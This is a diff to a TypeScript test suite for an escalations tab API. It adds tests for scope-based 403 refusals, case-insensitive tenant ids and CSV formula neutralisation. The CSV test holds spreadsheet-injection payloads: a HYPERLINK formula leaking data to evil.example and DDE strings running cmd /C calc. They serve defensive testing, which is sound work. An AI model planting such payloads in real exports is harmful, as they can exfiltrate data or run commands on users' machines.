@@ -2,9 +2,11 @@
 import assert from 'node:assert/strict';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { SignJWT, exportJWK, generateKeyPair, type KeyLike } from 'jose';
+import { createEscalation, transition } from '../../src/domain/escalation';
 import { entraIssuers } from '../../src/tab/api';
-import { CONTOSO, OTHER_PARTNER, PARTNER, startTabServer, type TabServer } from './fixtures';
+import { CONTOSO, ENGINEER, OTHER_PARTNER, PARTNER, startTabServer, type TabServer } from './fixtures';
 
 const APP_ID = '11111111-2222-4333-8444-555555555555';
 const HOST = 'desk.example.com';
@@ -31,6 +33,10 @@ interface TokenOptions {
   readonly iss?: string;
   readonly aud?: string;
   readonly expiresAt?: number;
+  /** Delegated scopes (space-separated); null leaves the claim out. Default: the tab's `access_as_user`. */
+  readonly scp?: string | null;
+  readonly idtyp?: string;
+  readonly roles?: readonly string[];
 }
 
 describe('tab API', () => {
@@ -42,7 +48,16 @@ describe('tab API', () => {
   /** Signs a token the way Entra ID does for Teams SSO (v2 issuer unless told otherwise). */
   const token = async (o: TokenOptions = {}): Promise<string> => {
     const tid = o.tid ?? PARTNER;
-    return new SignJWT({ tid, oid: 'aaaaaaaa-0000-4000-8000-0000000000e1', name: 'Ada Engineer', ver: '2.0' })
+    const scp = o.scp === undefined ? 'access_as_user' : o.scp;
+    return new SignJWT({
+      tid,
+      oid: 'aaaaaaaa-0000-4000-8000-0000000000e1',
+      name: 'Ada Engineer',
+      ver: '2.0',
+      ...(scp === null ? {} : { scp }),
+      ...(o.idtyp ? { idtyp: o.idtyp } : {}),
+      ...(o.roles ? { roles: o.roles } : {}),
+    })
       .setProtectedHeader({ alg: 'RS256', kid: o.kid ?? KID, typ: 'JWT' })
       .setIssuer(o.iss ?? `${LOGIN}/${tid}/v2.0`)
       .setAudience(o.aud ?? AUDIENCE)
@@ -112,6 +127,29 @@ describe('tab API', () => {
     assert.equal(res.status, 403);
   });
 
+  it('refuses a token without the delegated scope access_as_user (403 insufficient_scope) on the list and the export', async () => {
+    const refused: [string, TokenOptions][] = [
+      ['an app-only token (roles, idtyp=app, no scp)', { scp: null, idtyp: 'app', roles: ['Escalations.Read.All'] }],
+      ['a token with no scp at all', { scp: null }],
+      ['a token for another scope', { scp: 'Files.Read' }],
+      ['a scope that only starts like ours', { scp: 'access_as_user_admin User.Read' }],
+      ['an app token that also claims the scope', { scp: 'access_as_user', idtyp: 'app' }],
+    ];
+    for (const [name, claims] of refused) {
+      const t = await token(claims);
+      for (const path of ['/api/escalations', `/api/escalations/export?customer=${CONTOSO}&format=csv`, '/api/escalations/esc-contoso-mail']) {
+        const res = await fetch(`${tab.url}${path}`, { headers: { authorization: `Bearer ${t}` } });
+        assert.equal(res.status, 403, `${name}: ${path}`);
+        assert.match(res.headers.get('www-authenticate') ?? '', /^Bearer error="insufficient_scope", scope="access_as_user"$/, name);
+        assert.equal(((await res.json()) as { code: string }).code, 'InsufficientScope', name);
+      }
+    }
+    const withOthers = await token({ scp: 'User.Read access_as_user' });
+    assert.equal((await get('/api/escalations', withOthers)).status, 200);
+    const csv = await fetch(`${tab.url}/api/escalations/export?customer=${CONTOSO}&format=csv`, { headers: { authorization: `Bearer ${withOthers}` } });
+    assert.equal(csv.status, 200);
+  });
+
   it('lists only the partner tenant\u2019s escalations for a valid token (v2 and v1 issuers, both audiences)', async () => {
     const res = await get('/api/escalations', await token());
     assert.equal(res.status, 200);
@@ -125,6 +163,32 @@ describe('tab API', () => {
     const v1 = await get('/api/escalations', await token({ iss: `https://sts.windows.net/${PARTNER}/`, aud: APP_ID }));
     assert.equal(v1.status, 200);
     assert.equal(ids(v1.body).length, 3);
+  });
+
+  it('an upper-case partner tenant id (as typed in PARTNER_TENANT_ID) still lists the tenant\u2019s escalations, and an upper-case customer filter matches', async () => {
+    const upper = await startTabServer({
+      mode: 'entra',
+      appId: APP_ID,
+      audience: [AUDIENCE, APP_ID],
+      partnerTenantId: PARTNER.toUpperCase(),
+      loginEndpoint: LOGIN,
+      jwksUrl: jwks.url,
+    });
+    try {
+      const t = await token();
+      const list = await fetch(`${upper.url}/api/escalations`, { headers: { authorization: `Bearer ${t}` } });
+      assert.equal(list.status, 200);
+      const items = ((await list.json()) as { items: { id: string }[] }).items.map((i) => i.id).sort();
+      assert.deepEqual(items, ['esc-contoso-mail', 'esc-contoso-sharepoint', 'esc-fabrikam-teams']);
+      const one = await fetch(`${upper.url}/api/escalations/esc-contoso-mail`, { headers: { authorization: `Bearer ${t}` } });
+      assert.equal(one.status, 200);
+      const byCustomer = await fetch(`${upper.url}/api/escalations?customer=${CONTOSO.toUpperCase()}`, { headers: { authorization: `Bearer ${t}` } });
+      assert.deepEqual(((await byCustomer.json()) as { items: { id: string }[] }).items.map((i) => i.id).sort(), ['esc-contoso-mail', 'esc-contoso-sharepoint']);
+      const exported = await fetch(`${upper.url}/api/escalations/export?customer=${CONTOSO.toUpperCase()}&format=json`, { headers: { authorization: `Bearer ${t}` } });
+      assert.equal(((await exported.json()) as { escalations: unknown[] }).escalations.length, 2);
+    } finally {
+      await upper.stop();
+    }
   });
 
   it('filters by state (one, several, or open) and by customer', async () => {
@@ -209,6 +273,54 @@ describe('tab API', () => {
     assert.equal((await get(`/api/escalations/export?customer=${CONTOSO}`, await token({ tid: OTHER_PARTNER }))).status, 403);
     assert.equal((await get('/api/escalations/export?customer=contoso', await token())).status, 400);
     assert.equal((await get(`/api/escalations/export?customer=${CONTOSO}&format=xml`, await token())).status, 400);
+  });
+
+  it('neutralises spreadsheet formulas in the CSV export (a leading \' on = + - @, tab and CR cells)', async () => {
+    const customer = 'b0000000-0000-4000-8000-00000000b001';
+    const hostile = {
+      hyperlink: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+      dde: "=cmd|' /C calc'!A0",
+      minus: '-2+3+cmd|\' /C calc\'!A0',
+      at: '@SUM(1)',
+      tab: '\t=1+1',
+      cr: '\r=1+1',
+      plus: '+1+1',
+    };
+    const actor = { kind: 'user' as const, id: ENGINEER.id, name: hostile.at };
+    const created = createEscalation(
+      {
+        id: 'esc-formulas',
+        partnerTenantId: PARTNER,
+        ownerId: ENGINEER.id,
+        customer: { tenantId: customer, name: hostile.dde },
+        service: hostile.tab,
+        title: hostile.hyperlink,
+        description: 'formulas',
+      },
+      actor,
+      new Date(),
+    );
+    const stored = await tab.database.escalations.create(created.escalation, [created.event]);
+    const moved = transition(stored, 'triage', { actor: { ...actor, name: hostile.cr }, at: new Date() });
+    const triaged = await tab.database.escalations.update(moved.escalation, stored.version, [moved.event]);
+    const cancelled = transition(triaged, 'cancelled', { actor: { ...actor, name: hostile.plus }, at: new Date(), reason: hostile.minus });
+    await tab.database.escalations.update(cancelled.escalation, triaged.version, [cancelled.event]);
+
+    const res = await fetch(`${tab.url}/api/escalations/export?customer=${customer}&format=csv`, { headers: { authorization: `Bearer ${await token()}` } });
+    assert.equal(res.status, 200);
+    const rows = parseCsv<Record<string, string>>(await res.text(), { columns: true });
+    assert.equal(rows.length, 3);
+    const cells = rows.flatMap((r) => Object.values(r));
+    assert.deepEqual(cells.filter((c) => /^[=+\-@\t\r]/.test(c)), [], 'no cell starts a formula');
+    const first = rows[0] ?? {};
+    assert.equal(first.title, `'${hostile.hyperlink}`);
+    assert.equal(first.customer, `'${hostile.dde}`);
+    assert.equal(first.service, `'${hostile.tab}`);
+    const byTo = new Map(rows.map((r) => [r.to, r]));
+    assert.equal(byTo.get('draft')?.actor, `'${hostile.at}`);
+    assert.equal(byTo.get('triage')?.actor, `'${hostile.cr}`);
+    assert.equal(byTo.get('cancelled')?.actor, `'${hostile.plus}`);
+    assert.equal(byTo.get('cancelled')?.reason, `'${hostile.minus}`);
   });
 
   it('knows the v1 and v2 issuers of each cloud', () => {
